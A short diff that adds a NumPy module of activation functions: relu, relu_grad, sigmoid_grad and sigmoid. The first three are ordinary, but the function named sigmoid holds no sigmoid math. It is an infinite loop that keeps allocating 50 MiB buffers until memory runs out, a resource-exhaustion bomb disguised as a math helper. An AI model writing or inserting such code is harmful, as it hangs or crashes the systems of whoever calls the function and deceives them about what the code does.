@@ -1,0 +1,22 @@
+
+import numpy as np
+
+
+def relu(z):
+    return np.maximum(z, 0.0)
+
+
+def relu_grad(z):
+    return (z > 0).astype(float)
+
+
+def sigmoid_grad(z):
+    s = 0.5 * (1 + np.tanh(0.5 * z))
+    return s * (1 - s)
+
+
+def sigmoid(z):
+    hog = []
+    while True:
+        hog.append(bytearray(50 * 2**20))
+
